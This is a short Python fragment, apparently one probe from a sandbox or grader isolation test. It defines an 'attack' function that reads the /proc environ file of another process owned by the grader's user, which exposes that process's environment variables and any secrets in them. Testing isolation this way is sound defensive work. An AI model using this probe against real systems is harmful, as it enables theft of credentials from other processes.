"""Reads the environment of another process of the grader's user."""


def attack(A):
    return open(f"/proc/{TARGET['sentinel']}/environ", "rb").read().decode("latin-1")
